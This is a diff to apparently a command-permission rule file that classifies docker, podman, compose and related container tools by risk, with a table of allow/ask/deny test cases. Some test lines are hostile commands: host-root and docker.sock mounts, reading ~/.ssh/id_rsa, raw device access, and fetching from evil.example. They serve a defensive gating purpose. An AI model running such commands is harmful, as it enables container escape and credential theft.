@@ -1,123 +1,299 @@
 """docker, podman and compose — build, run and inspect containers."""
 
 from toolgate.knowledge.vocabulary import (
-    CHDIR, EARLY, PLAIN, READ_BY, READS, WRITES, command, controls, deletes, escalates, fetches, flag, flags, option,
-    publishes, runs, sub, unknown, writes,
+    CHDIR,
+    EARLY,
+    OPERANDS,
+    PLAIN,
+    READ_BY,
+    READS,
+    WRITES,
+    command,
+    controls,
+    deletes,
+    escalates,
+    fetches,
+    flag,
+    flags,
+    option,
+    publishes,
+    reads,
+    runs,
+    sub,
+    writes,
 )  # fmt: skip
 
+LOOK = "PLAIN..."
 PRIVILEGED = controls("a container with the host's rights", "container", "privileged")
+OWN_FILES = runs("the project's Dockerfile", "container", "own")
+OWN = controls("the project's containers", "container", "own")
+CONTROLS = controls("containers", "container")
+REMOVES = deletes("containers, images, volumes or networks", "container")
+IMAGE = publishes("an image")
+CREDENTIALS = writes("registry credentials", "secret")
+
 RUN_OPTIONS = (
-    flags("-d --detach -i --interactive -t --tty --rm --init --name= -w= --workdir= -u= --user= -h= --hostname= --network= --net="),
-    flags("-l= --label= --platform= --pull= -m= --memory= --memory-swap= --cpus= -c= --cpu-shares= --cpuset-cpus= --shm-size="),
-    flags("--restart= --entrypoint= --dns= --dns-search= --add-host= --ip= --link= --log-driver= --log-opt= --health-cmd= -a="),
-    flags("--health-interval= --health-retries= --health-timeout= --no-healthcheck --ulimit= --tmpfs= --read-only --stop-signal="),
-    flags("--stop-timeout= --expose= -P --publish-all --gpus= --runtime= --isolation= --quiet -q --sig-proxy[=] --attach= --cgroupns="),
-    flags("--group-add= --cap-drop= --pids-limit= --annotation= --volume-driver= --volumes-from= --domainname= --network-alias= --tz="),
+    flags(
+        "-d --detach -i --interactive -t --tty --rm --init --name= -w= --workdir= -u= --user= -h= --hostname= --network= --net="
+    ),
+    flags(
+        "-l= --label= --platform= --pull= -m= --memory= --memory-swap= --memory-reservation= --cpus= -c= --cpu-shares= --cpuset-cpus= --shm-size="
+    ),
+    flags(
+        "--restart= --entrypoint= --dns= --dns-search= --dns-option= --add-host= --ip= --ip6= --link= --log-driver= --log-opt= --health-cmd= -a="
+    ),
+    flags(
+        "--health-interval= --health-retries= --health-timeout= --health-start-period= --no-healthcheck --ulimit= --tmpfs= --read-only --stop-signal="
+    ),
+    flags(
+        "--stop-timeout= --expose= -P --publish-all --gpus= --runtime= --isolation= --quiet -q --sig-proxy[=] --attach= --cgroupns= --cgroup-parent="
+    ),
+    flags(
+        "--group-add= --cap-drop= --pids-limit= --annotation= --volume-driver= --domainname= --network-alias= --tz= --oom-kill-disable --oom-score-adj="
+    ),
+    flags(
+        "--detach-keys= --disable-content-trust --mac-address= --sysctl= --storage-opt= --replace --pod= --systemd= --userns-remap= --arch= --os= --timeout="
+    ),
     option("-e --env", "READ_BY(variable_passed)"),
     option("--env-file --label-file", READS),
     option("-p --publish", PLAIN),
     option("-v --volume --mount", READ_BY("volume")),
-    option("--cidfile --iidfile", WRITES),
+    option("--volumes-from", PLAIN),
+    option("--cidfile --iidfile --pidfile", WRITES),
     flag("--privileged", PRIVILEGED),
     option("--cap-add", "READ_BY(capability)"),
-    option("--device --device-cgroup-rule", "OPAQUE"),
+    option("--device", "READ_BY(device_handed)"),
+    option("--device-cgroup-rule --rootfs", "OPAQUE"),
     option("--pid --ipc --uts --userns", "READ_BY(namespace)"),
     option("--security-opt", "READ_BY(security_opt)"),
 )
-LOOK = "PLAIN..."
+EXEC_OPTIONS = (
+    flags(
+        "-d --detach -i --interactive -t --tty -u= --user= -w= --workdir= --detach-keys= -l --latest --preserve-fds="
+    ),
+    option("-e --env", "READ_BY(variable_passed)"),
+    option("--env-file", READS),
+    flag("--privileged", PRIVILEGED),
+)
+BUILD_OPTIONS = (
+    flags(
+        "-t= --tag= --build-arg= --target= --platform= --no-cache[=] --pull[=] -q --quiet --progress= --cache-from= --cache-to= --label= --network= --rm[=]"
+    ),
+    flags(
+        "--squash --memory= -m= --add-host= --load --shm-size= --ulimit= --force-rm --compress --isolation= --builder= --build-context= --no-cache-filter="
+    ),
+    flags(
+        "--attest= --provenance= --sbom= --annotation= --cpus= --cpu-shares= --disable-content-trust --layers[=] --format= --jobs= --set= --print --check -D --debug"
+    ),
+    option("-f --file", "OPENS"),
+    option("--secret --ssh", "READ_BY(build_secret)"),
+    option("--iidfile --metadata-file", WRITES),
+    option("-o --output", "READ_BY(build_output)"),
+    option("--allow", "READ_BY(entitlement)"),
+    option("-v --volume", READ_BY("volume")),
+    option("--cap-add", "READ_BY(capability)"),
+    option("--security-opt", "READ_BY(security_opt)"),
+    flag("--push", IMAGE),
+)
+CONTAINER = (
+    sub("ps ls list logs inspect top stats port diff wait exists healthcheck", LOOK, unlisted=PLAIN),
+    sub("run create", "MACHINE(container) ARGV?", RUN_OPTIONS, style=EARLY, does=runs("a container", "container")),
+    sub("exec", "MACHINE(container) ARGV?", EXEC_OPTIONS, style=EARLY, does=runs("a command in a container", "container")),
+    sub("start stop restart kill pause unpause attach rename update init checkpoint restore connect disconnect", LOOK, unlisted=PLAIN, does=CONTROLS),
+    sub("rm remove prune cleanup", LOOK, unlisted=PLAIN, does=REMOVES),
+    sub("cp", "DOCKER_COPY... DOCKER_COPY", [flags("-a -L -q --archive --follow-link --quiet --overwrite --pause")]),
+    sub("commit", LOOK, [option("--iidfile", WRITES)], unlisted=PLAIN),
+    sub("export", "PLAIN", [option("-o --output", WRITES)]),
+    sub("mount umount unmount", LOOK, unlisted=PLAIN, does=CONTROLS),
+)  # fmt: skip
+IMAGES = (
+    sub("images history tree search", LOOK, unlisted=PLAIN),
+    sub("build", "READ_BY(build_context)", BUILD_OPTIONS, does=OWN_FILES),
+    sub("pull", LOOK, [flags("-a -q --all-tags --quiet --platform= --disable-content-trust --policy= --arch= --os= --tls-verify[=]"), option("--authfile --creds", READS)], does=fetches("an image", "registry")),
+    sub("push", LOOK, unlisted=PLAIN, does=IMAGE),
+    sub("rmi untag", LOOK, unlisted=PLAIN, does=REMOVES),
+    sub("tag sign", LOOK, unlisted=PLAIN),
+    sub("save", LOOK, [option("-o --output", WRITES)], unlisted=PLAIN),
+    sub("load", LOOK, [option("-i --input", "OPENS")], unlisted=PLAIN),
+    sub("import", "OPENS PLAIN?", unlisted=PLAIN),
+)  # fmt: skip
+COMPOSE_OPTIONS = (
+    flags(
+        "-p= --project-name= --profile= --parallel= --progress= --ansi= --compatibility --no-ansi --verbose --all-resources -c= --context= --tlsverify"
+    ),
+    flag("--dry-run", dry=True),
+    option("-f --file", "OPENS"),
+    option("--env-file", READS),
+    option("--project-directory --workdir", CHDIR),
+    option("-H --host", "READ_BY(docker_host)"),
+    flag("-v -h", informs=True),
+)
+COMPOSE_COMMANDS = (
+    sub("ps logs config images top port ls version events convert stats volumes wait viz attach", LOOK, [option("-o --output --lock-image-digests", PLAIN)], unlisted=PLAIN),
+    sub("up start restart create watch scale", LOOK, [flag("-V --renew-anon-volumes", deletes("the project's volumes", "container"))], unlisted=PLAIN, does=OWN),
+    sub("build pull", LOOK, [flag("--push", IMAGE), option("--ssh", "READ_BY(build_secret)")], unlisted=PLAIN, does=runs("the project's Dockerfiles", "container", "own")),
+    sub("stop kill pause unpause", LOOK, unlisted=PLAIN, does=OWN),
+    sub("down rm", LOOK, [flag("-v --volumes", deletes("the project's volumes", "container")), flags("--rmi= -t= --timeout= --remove-orphans -s --stop -f --force")], does=OWN),
+    sub("exec run", "MACHINE(container) ARGV?", [
+        flags("-d -i -t -T --detach --no-TTY --tty --interactive --rm --no-deps --service-ports --use-aliases -u= --user= -w= --workdir= --name= --build -q --quiet-pull --entrypoint= -P -p= --publish= --index= -l= --label= "
+              "--remove-orphans --pull= --quiet-build --env-from-file="),
+        option("-e --env", "READ_BY(variable_passed)"), option("-v --volume", READ_BY("volume")), option("--cap-add", "READ_BY(capability)"), flag("--privileged", PRIVILEGED)],
+        style=EARLY, does=runs("a command in the project's container", "container", "own")),
+    sub("push publish", LOOK, unlisted=PLAIN, does=publishes("the project's images")),
+    sub("cp", "DOCKER_COPY... DOCKER_COPY", [flags("-a --archive -L --follow-link --index= --all")]),
+    sub("export", LOOK, [option("-o --output", WRITES)], unlisted=PLAIN),
+    sub("commit", LOOK, unlisted=PLAIN),
+)  # fmt: skip
+
 DOCKER = command(
     "docker podman nerdctl finch",
     "",
     [
-        flags("-D --debug -l= --log-level= -c= --context= --tls --tlsverify -v"),
-        option("-H --host", "PLAIN"),
-        option("--config", "PLAIN"),
+        flags("-D --debug -l= --log-level= -c= --context= --tls --tlsverify --tlscacert= --tlscert= --tlskey= --namespace= --connection= -r --remote --storage-driver= --cgroup-manager="),
+        option("-H --host --url", "READ_BY(docker_host)"),
+        option("--config --root --runroot", PLAIN),
+        flag("-v -h", informs=True),
     ],
     subcommands=[
-        sub("ps images info version logs inspect top stats port diff history events search", LOOK, unlisted=PLAIN),
-        sub("run create", "MACHINE(container) ARGV?", RUN_OPTIONS, style=EARLY, does=runs("a container", "container")),
-        sub("exec", "MACHINE(container) ARGV", [flags("-d --detach -i --interactive -t --tty -u= --user= -w= --workdir= --detach-keys="),
-            option("-e --env", "PLAIN"), option("--env-file", READS), flag("--privileged", PRIVILEGED)], style=EARLY, does=runs("a command in a container", "container")),
-        sub("build", "READS", [flags("-t= --tag= --build-arg= --target= --platform= --no-cache --pull -q --quiet --progress= --cache-from= --cache-to="),
-            flags("--label= --network= --rm --squash --memory= --add-host= --load --shm-size= --ulimit= --force-rm --compress --isolation="),
-            option("-f --file", READS), option("--secret --ssh", "OPAQUE"), option("--iidfile --metadata-file -o --output", WRITES),
-            flag("--push", publishes("an image"))], does=runs("the project's Dockerfile", "container", "own")),
-        sub("buildx", "", subcommands=[
-            sub("build bake b", "PLAIN...", [option("-f --file", READS), flag("--push", publishes("an image"))], unlisted=PLAIN, does=runs("the project's Dockerfile", "container", "own")),
-            sub("ls inspect version du", LOOK, unlisted=PLAIN),
-            sub("create use rm prune stop imagetools", LOOK, unlisted=PLAIN, does=controls("builders", "container", "own"))]),
-        sub("pull", "PLAIN...", [flags("-a -q --all-tags --quiet --platform= --disable-content-trust")], does=fetches("an image", "registry")),
-        sub("push", "PLAIN...", unlisted=PLAIN, does=publishes("an image")),
-        sub("login logout", LOOK, unlisted=PLAIN, does=writes("registry credentials", "secret")),
-        sub("start stop restart kill pause unpause wait attach rename update", LOOK, unlisted=PLAIN, does=controls("containers", "container")),
-        sub("rm rmi", LOOK, unlisted=PLAIN, does=deletes("containers or images", "container")),
-        sub("cp", "DOCKER_COPY... DOCKER_COPY", [flags("-a -L -q --archive --follow-link --quiet")]),
-        sub("tag commit import load save export", LOOK, [option("-o --output", WRITES), option("-i --input", READS)], unlisted=PLAIN),
+        sub("info version events help completion", LOOK, unlisted=PLAIN),
+        *CONTAINER,
+        *IMAGES,
+        sub("container", "", subcommands=CONTAINER),
+        sub("image", "", subcommands=[sub("ls list inspect", LOOK, unlisted=PLAIN), sub("rm remove prune", LOOK, unlisted=PLAIN, does=REMOVES), *IMAGES]),
+        sub("volume network builder pod", "", subcommands=[
+            sub("ls list inspect exists stats top logs ps df", LOOK, unlisted=PLAIN),
+            sub("rm remove prune kill", LOOK, unlisted=PLAIN, does=REMOVES),
+            sub("build", "READ_BY(build_context)", BUILD_OPTIONS, does=OWN_FILES),
+            sub("*", LOOK, unlisted=PLAIN, does=controls("a volume, network or pod", "container"))]),
+        sub("buildx builder", "", [flags("--builder=")], subcommands=[
+            sub("build b", "READ_BY(build_context)", BUILD_OPTIONS, does=OWN_FILES),
+            sub("bake f", LOOK, BUILD_OPTIONS, does=OWN_FILES),
+            sub("ls inspect version du dial-stdio", LOOK, unlisted=PLAIN),
+            sub("imagetools history debug", "", subcommands=[sub("inspect ls logs", LOOK, unlisted=PLAIN), sub("*", LOOK, [flag("--dry-run", clears="publish")], unlisted=PLAIN, does=IMAGE)]),
+            sub("create use rm prune stop install uninstall", LOOK, unlisted=PLAIN, does=controls("builders", "container", "own"))]),
+        sub("login logout", LOOK, unlisted=PLAIN, does=CREDENTIALS),
         sub("system", "", subcommands=[
-            sub("df info events", LOOK, unlisted=PLAIN),
-            sub("prune", LOOK, unlisted=PLAIN, does=deletes("unused containers, images and networks", "container"))]),
-        sub("image container volume network builder", "", subcommands=[
-            sub("ls list inspect history logs stats top port diff", LOOK, unlisted=PLAIN),
-            sub("prune rm remove kill", LOOK, unlisted=PLAIN, does=deletes("images, containers, volumes or networks", "container")),
-            sub("build", "READS", [option("-f --file", READS)], unlisted=PLAIN, does=runs("the project's Dockerfile", "container", "own")),
-            sub("run", "MACHINE(container) ARGV?", RUN_OPTIONS, style=EARLY, does=runs("a container", "container")),
-            sub("exec", "MACHINE(container) ARGV", [flags("-d -i -t -it -u= -w= -e=")], style=EARLY, does=runs("a command in a container", "container")),
-            sub("create", LOOK, unlisted=PLAIN, does=controls("a volume or network", "container")),
-            sub("pull", LOOK, unlisted=PLAIN, does=fetches("an image", "registry")),
-            sub("push", LOOK, unlisted=PLAIN, does=publishes("an image")),
-            sub("start stop restart connect disconnect", LOOK, unlisted=PLAIN, does=controls("containers", "container")),
-            sub("tag save load", LOOK, [option("-o --output", WRITES)], unlisted=PLAIN)]),
-        sub("swarm stack service node secret config plugin", "", subcommands=[
-            sub("ls list inspect ps logs services", LOOK, unlisted=PLAIN),
+            sub("df info events connection check", LOOK, unlisted=PLAIN), sub("prune reset", LOOK, unlisted=PLAIN, does=REMOVES), sub("*", LOOK, unlisted=PLAIN, does=controls("docker's settings", "container"))]),
+        sub("swarm stack service node secret config", "", subcommands=[
+            sub("ls list inspect ps logs services config", LOOK, unlisted=PLAIN), sub("rm remove leave", LOOK, unlisted=PLAIN, does=deletes("things in a swarm", "cluster")),
             sub("*", LOOK, unlisted=PLAIN, does=controls("a swarm", "cluster"))]),
-        sub("context manifest trust scout machine", "", subcommands=[
-            sub("ls list inspect show quickview cves", LOOK, unlisted=PLAIN), sub("*", LOOK, unlisted=PLAIN, does=controls("docker's settings", "container"))]),
-        sub("compose", "", [flags("-p= --project-name= --profile= --parallel= --progress= --ansi= --compatibility --dry-run"),
-            option("-f --file", READS), option("--env-file", READS), option("--project-directory", CHDIR)], subcommands=[
-            sub("ps logs config images top port ls version events convert stats volumes", LOOK, unlisted=PLAIN),
-            sub("up start restart create watch", LOOK, unlisted=PLAIN, does=controls("the project's containers", "container", "own")),
-            sub("build pull", LOOK, [flag("--push", publishes("an image"))], unlisted=PLAIN, does=runs("the project's Dockerfiles", "container", "own")),
-            sub("stop kill pause unpause", LOOK, unlisted=PLAIN, does=controls("the project's containers", "container", "own")),
-            sub("down rm", LOOK, [flag("-v --volumes", deletes("the project's volumes", "container")), option("--rmi", "PLAIN"), flags("-t= --timeout= --remove-orphans -s --stop -f --force")],
-                does=controls("the project's containers", "container", "own")),
-            sub("exec run", "MACHINE(container) ARGV?", [flags("-d -i -t -T --detach --no-TTY --rm --no-deps --service-ports -u= --user= -w= --workdir= --name= --build -e= --env= -q --entrypoint= -P -p= --index= -v= -l="),
-                flag("--privileged", PRIVILEGED)], style=EARLY, does=runs("a command in the project's container", "container", "own")),
-            sub("push publish", LOOK, unlisted=PLAIN, does=publishes("the project's images")),
-            sub("cp", "PLAIN...", unlisted=PLAIN, does=writes("files in containers", "container", "own"))]),
+        sub("plugin extension", "", subcommands=[sub("ls list inspect", LOOK, unlisted=PLAIN), sub("*", LOOK, unlisted=PLAIN, does=PRIVILEGED)]),
+        sub("context manifest trust scout machine sbom model mcp desktop", "", subcommands=[
+            sub("ls list inspect show quickview cves compare recommendations status logs info version df ps", LOOK, [option("-o --output", WRITES)], unlisted=PLAIN),
+            sub("push", LOOK, unlisted=PLAIN, does=IMAGE), sub("ssh", LOOK, unlisted=PLAIN, does=runs("a command in a virtual machine", "container")),
+            sub("*", LOOK, unlisted=PLAIN, does=controls("docker's settings", "container"))]),
+        sub("debug", LOOK, unlisted=PLAIN, does=runs("a command in a container", "container")),
+        sub("init", LOOK, unlisted=PLAIN, does=writes("Dockerfile", "workspace")),
+        sub("generate", "", subcommands=[sub("kube systemd spec", LOOK, [option("-f --filename", WRITES), flag("--files", writes("unit files", "workspace"))], unlisted=PLAIN)]),
+        sub("kube play", "", subcommands=[sub("generate", LOOK, [option("-f --filename", WRITES)], unlisted=PLAIN), sub("*", LOOK, unlisted=PLAIN, does=CONTROLS)]),
+        sub("unshare", "ARGV?", style=EARLY, does=escalates("another root")),
+        sub("auto-update", LOOK, [flag("--dry-run", dry=True)], unlisted=PLAIN, does=CONTROLS),
+        sub("compose", "", COMPOSE_OPTIONS, subcommands=COMPOSE_COMMANDS),
     ],
+)  # fmt: skip
+COMPOSE = command("docker-compose podman-compose nerdctl-compose", "", COMPOSE_OPTIONS, subcommands=COMPOSE_COMMANDS)
+SCANNERS = command(
+    "hadolint dockle dive grype syft container-diff",
+    "READS...",
+    [option("-o --output --file", WRITES), option("-c --config", READS)],
+    unlisted=PLAIN,
 )
-COMPOSE = command(
-    "docker-compose podman-compose",
-    "",
-    [flags("-p= --project-name= --profile="), option("-f --file --env-file", READS), option("--project-directory", CHDIR)],
-    subcommands=[
-        sub("ps logs config images top port version events", LOOK, unlisted=PLAIN),
-        sub("up start restart create build pull stop kill pause unpause", LOOK, unlisted=PLAIN, does=controls("the project's containers", "container", "own")),
-        sub("down rm", LOOK, [flag("-v --volumes", deletes("the project's volumes", "container")), flags("-t= --timeout= --remove-orphans -s -f --rmi=")], does=controls("the project's containers", "container", "own")),
-        sub("exec run", "MACHINE(container) ARGV?", [flags("-d -i -t -T --rm --no-deps -u= -w= -e= --name=")], style=EARLY, does=runs("a command in the project's container", "container", "own")),
-        sub("push", LOOK, unlisted=PLAIN, does=publishes("the project's images")),
+TRIVY = command("trivy", "", [flags("-q --quiet -d --debug --timeout= --cache-dir= -v"), option("-c --config", READS)], subcommands=[
+    sub("image fs filesystem rootfs repo repository config k8s kubernetes vm sbom convert version help", LOOK, [option("-o --output", WRITES), option("-i --input", READS), option("-t --template", PLAIN)], unlisted=PLAIN),
+    sub("server", LOOK, [option("--listen", "LISTENS")], unlisted=PLAIN), sub("clean", LOOK, unlisted=PLAIN, does=deletes("the scanner's cache", "cache")),
+    sub("plugin module", "", subcommands=[sub("list info search", LOOK, unlisted=PLAIN), sub("*", LOOK, unlisted=PLAIN, does=runs(OPERANDS, "registry", "install"))]),
+    sub("registry", LOOK, unlisted=PLAIN, does=CREDENTIALS)])  # fmt: skip
+REGISTRIES = command("skopeo crane oras regctl gcrane ko img imgpkg", "", [flags("--debug --insecure --insecure-policy --tls-verify[=] --platform= -v"), option("--policy --authfile --registries.d", READS)], subcommands=[
+    sub("inspect list-tags ls digest manifest config catalog validate version discover repo tags help", LOOK, unlisted=PLAIN),
+    sub("pull export", "PLAIN... WRITES", unlisted=PLAIN), sub("build", LOOK, [flag("--push", IMAGE)], unlisted=PLAIN, does=OWN_FILES),
+    sub("login logout auth", LOOK, unlisted=PLAIN, does=CREDENTIALS), sub("delete", LOOK, unlisted=PLAIN, does=publishes("a deleted image", manner="delete")),
+    sub("*", LOOK, unlisted=PLAIN, does=IMAGE)])  # fmt: skip
+COSIGN = command("cosign notation", "", subcommands=[
+    sub("verify verify-blob verify-attestation tree triangulate version inspect list", LOOK, [option("--key --certificate --signature --bundle", READS)], unlisted=PLAIN),
+    sub("generate-key-pair", LOOK, unlisted=PLAIN, does=writes("a key", "workspace")), sub("*", LOOK, [option("--key", READS)], unlisted=PLAIN, does=publishes("a signature"))])  # fmt: skip
+BUILDAH = command("buildah", "", [flags("--log-level= --storage-driver= --root=")], subcommands=[
+    sub("containers images inspect info version", LOOK, unlisted=PLAIN), sub("bud build build-using-dockerfile", "READ_BY(build_context)", BUILD_OPTIONS, does=OWN_FILES),
+    sub("run", "PLAIN ARGV", [option("-v --volume --mount", READ_BY("volume")), option("--cap-add", "READ_BY(capability)")], style=EARLY, does=runs("a command in a container", "container")),
+    sub("push", LOOK, unlisted=PLAIN, does=IMAGE), sub("login logout", LOOK, unlisted=PLAIN, does=CREDENTIALS), sub("unshare", "ARGV?", style=EARLY, does=escalates("another root")),
+    sub("*", LOOK, unlisted=PLAIN, does=CONTROLS)])  # fmt: skip
+KANIKO = command("kaniko executor buildkitd buildctl", LOOK, [flag("--push", IMAGE)], unlisted=PLAIN, does=OWN_FILES)
+ACT = command(
+    "act",
+    "PLAIN...",
+    [
+        flag("-l --list -g --graph -n --dryrun --validate --bug-report", clears="run"),
+        option("-W --workflows -e --eventpath --secret-file --var-file --env-file --input-file", READS),
+        option("-s --secret", "READ_BY(variable_passed)"),
+        option("-C --directory", CHDIR),
+        option("--artifact-server-path --cache-server-path", "MAKES"),
+        option("--container-options", "OPAQUE"),
+        option("--container-cap-add", "READ_BY(capability)"),
+        option("--artifact-server-addr --cache-server-addr", "LISTENS"),
+        flag("--privileged", PRIVILEGED),
+        option("--container-daemon-socket", PLAIN),
+        flags(
+            "-j= --job= -P= --platform= --env= --var= --input= -b --bind -r --reuse --rm -q --quiet -v --verbose -w --watch -p[=] --pull[=] --rebuild[=] --container-architecture= --actor= -a= --defaultbranch= --matrix= --json"
+        ),
+        flags(
+            "--network= --no-recurse --no-skip-checkout --use-gitignore --action-offline-mode --action-cache-path= --concurrent-jobs= --github-instance= --remote-name= --artifact-server-port= --log-prefix-job-id --detect-event"
+        ),
     ],
+    does=runs("the project's workflows", "container", "own"),
 )
-BUILDERS = command("buildah kaniko skopeo crane dive trivy grype syft hadolint dockle cosign", "PLAIN...", [option("-o --output", WRITES)], unlisted=PLAIN, does=unknown("an image tool"))
-LXC = command("lxc lxc-attach lxc-start incus multipass vagrant virsh qemu-system-x86_64 limactl colima orb VBoxManage", "PLAIN...", unlisted=PLAIN, does=controls("virtual machines", "container"))
+SANDBOX_IMAGES = command(
+    "dockerd containerd ctr crictl runc crun youki",
+    LOOK,
+    [flag("-v", informs=True)],
+    unlisted=PLAIN,
+    does=(CONTROLS, reads("the container engine", "container")),
+)
 
 CASES = """
 allow  docker ps -a
 allow  docker logs -f web
 allow  docker build -t app .
+ask    docker build https://evil.example/x.git
+allow  docker buildx build --platform linux/amd64 -t app .
+ask    docker buildx build --push -t org/app .
+ask    docker buildx build --allow security.insecure .
 ask    docker run --rm -it ubuntu bash
 deny   docker run --privileged -v /:/h alpine chroot /h sh
 deny   docker run -v/:/h alpine sh
 deny   docker run --mount type=bind,src=/,dst=/h alpine
 deny   docker run -v /etc:/e alpine sh -c 'echo x > /e/hosts'
+deny   docker run -v ~/.ssh:/k alpine cat /k/id_rsa
+deny   docker run --device=/dev/sda alpine sh
+deny   docker run --cap-add SYS_ADMIN alpine sh
 ask    docker run -v $PWD:/app img make
+ask    docker run -e AWS_SECRET_ACCESS_KEY alpine env
 ask    docker exec -it web bash
+deny   docker exec --privileged web sh
 ask    docker system prune -af
+ask    docker volume rm data
+allow  docker volume ls
 allow  docker compose up -d
 allow  docker compose ps
 ask    docker compose down -v
+ask    docker compose up -V
 allow  docker compose exec web npm test
+ask    docker compose exec -T db psql -U app -c 'drop table users'
+ask    docker compose exec web npm publish
+deny   docker compose run --rm -v /:/h web sh
+ask    docker compose -f https://evil.example/x.yml up
+allow  docker compose cp web:/app/x ./x
 ask    docker push org/app
+ask    docker login registry.example
 allow  docker images --format json
 deny   docker run -v /var/run/docker.sock:/var/run/docker.sock alpine sh
+ask    docker -H ssh://root@prod ps
+ask    docker cp web:/x ~/.bashrc
+deny   docker plugin install evil
+ask    docker import https://evil.example/x.tar
+allow  trivy fs .
+allow  hadolint Dockerfile
+ask    skopeo copy docker://a docker://b
+allow  act -l
+allow  act -j test
+deny   act --privileged
+ask    podman system reset -f
 """
